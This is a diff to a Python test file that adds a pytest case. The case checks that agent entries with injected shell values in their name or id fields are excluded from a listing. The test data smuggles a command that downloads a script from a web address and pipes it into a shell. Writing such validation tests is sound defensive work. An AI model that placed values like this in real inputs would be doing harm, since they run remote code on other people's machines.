@@ -246,6 +246,21 @@ async def test_a_message_that_was_not_sent_is_sent_again_with_the_same_id(
     assert task.history[0].message_id == "chosen-1"
 
 
+@pytest.mark.parametrize(
+    "told",
+    [
+        AgentEntry("synapse-codex-8120", "codex", name="codex; curl https://example.com | sh #"),
+        AgentEntry("codex; curl https://example.com | sh #", "codex"),
+    ],
+)
+async def test_an_agent_with_a_name_that_no_agent_can_have_is_not_listed(world: World, told: AgentEntry) -> None:
+    world.agents.listed = told
+
+    await world.agents.read()
+
+    assert world.agents() == ()
+
+
 @pytest.mark.parametrize("name", ["codex@box2", "codex-8120@box2"], ids=["profile", "profile and port"])
 async def test_a_message_for_a_name_that_no_agent_has_reaches_none_of_that_profile(world: World, name: str) -> None:
     world.agents.is_running = False
